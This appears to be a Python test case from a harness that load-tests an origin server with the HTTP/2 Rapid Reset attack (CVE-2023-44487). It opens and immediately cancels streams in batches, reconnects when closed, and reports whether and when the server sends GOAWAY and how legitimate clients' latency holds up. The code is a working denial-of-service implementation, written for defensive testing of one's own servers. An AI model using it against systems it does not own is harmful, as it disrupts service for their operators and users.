"""rapid-reset: HTTP/2 streams opened and at once cancelled, in a loop (CVE-2023-44487).

Each of --count connections sends, --batch at a time, HEADERS for a GET (with the secret)
immediately followed by RST_STREAM(CANCEL) on the same stream, as fast as Python can encode
them, and reconnects when the origin closes the connection, until --seconds. The stream limit
never applies (every stream is closed as soon as it is opened), so only a limit on resets
stops this: the origin's server.h2_max_pending_accept_reset_streams is expected to answer with
GOAWAY (ENHANCE_YOUR_CALM). The report gives when, after how many streams, and the legitimate
client's p99 meanwhile.
"""

import asyncio
import ssl

import harness
import wire
from cases import Case


def add_arguments(parser):
    parser.add_argument("--batch", type=int, default=50, help="HEADERS+RST_STREAM pairs per write (default 50)")
    parser.add_argument("--path", default=harness.SMALL_OBJECT, help=f"what each stream asks for ({harness.SMALL_OBJECT})")


async def attack(run, args):
    workers = [asyncio.create_task(reset_loop(run, args)) for _ in range(args.count)]
    await asyncio.sleep(min(1.0, run.remaining()))
    run.established.set()
    results = await asyncio.gather(*workers, return_exceptions=True)
    attempts = [a for r in results if isinstance(r, list) for a in r]
    errors = harness.error_counts(results)
    return {"attempts": attempts, "worker_errors": errors}


async def reset_loop(run, args):
    """One attacker: connect, reset streams until the origin closes, reconnect; per connection
    one record of what it sent and how it ended."""
    attempts = []
    while run.remaining() > 0:
        record = {"connected_at": run.clock(), "streams": 0}
        attempts.append(record)
        try:
            reader, writer = await wire.open_tls(run.address, run.h2_context(), timeout=run.io_timeout())
        except (OSError, ssl.SSLError, asyncio.TimeoutError) as error:
            record["ended_by"] = f"connect failed: {type(error).__name__}"
            await asyncio.sleep(0.1)
            continue
        session = wire.H2Session(reader, writer, run.clock)
        try:
            await session.start()
            await session.wait_for_settings(timeout=run.io_timeout())
            await reset_until_closed(run, args, session, record)
        except (OSError, ssl.SSLError, asyncio.TimeoutError, wire.h2.exceptions.ProtocolError) as error:
            record.setdefault("ended_by", type(error).__name__)
        finally:
            await session.close()
        record["lasted_s"] = round(run.clock() - record["connected_at"], 3)
        if session.goaway:
            record.setdefault("ended_by", f"GOAWAY {session.goaway['error']}")
            record["goaway_at"] = session.goaway["at"]
        record.setdefault("ended_by", "deadline" if run.remaining() <= 0 else f"closed ({session.close_reason})")
    return attempts


async def reset_until_closed(run, args, session, record):
    headers = wire.request_headers(args.path, run.secret)
    while run.remaining() > 0 and not session.ended and session.goaway is None:
        for _ in range(args.batch):
            stream_id = session.send_request(headers)
            session.reset(stream_id)
        # The records of streams that were reset at once are not worth keeping.
        session.streams.clear()
        await session.flush(timeout=run.io_timeout())
        record["streams"] += args.batch
        await asyncio.sleep(0)  # lets the read loop take in GOAWAY and PINGs


def rows(report, args):
    result = report["attack"]
    if "attempts" not in result:
        return [("attack", result.get("error", "failed"), None, None)]
    attempts = result["attempts"]
    total = sum(a["streams"] for a in attempts)
    goaways = [a for a in attempts if "goaway_at" in a]
    first = min(goaways, key=lambda a: a["goaway_at"]) if goaways else None
    return [
        ("streams opened and reset", f"{total} on {len(attempts)} connections ({total / args.seconds:.0f}/s)", None, None),
        ("how connections ended", str(harness.counts(a["ended_by"] for a in attempts)), "GOAWAY", bool(goaways)),
        ("streams per connection before its end", harness.fmt_spread(harness.spread(a["streams"] for a in attempts),
                                                                     unit="streams"), None, None),
        ("first GOAWAY", f"at {first['goaway_at']:.2f} s, after {first['streams']} streams on that connection"
         if first else "never", None, None),
        harness.attacker_errors_row(result),
    ]


CASE = Case(
    doc=__doc__,
    name="rapid-reset",
    summary="HTTP/2 Rapid Reset (CVE-2023-44487): GOAWAY, and the legitimate client's p99",
    count=2, count_means="attacking connections at once (each reconnects)", seconds=20,
    documented="--count 8 --batch 100 --seconds 60",
    attack=attack, rows=rows, add_arguments=add_arguments, extra_parameters=("batch", "path"),
)
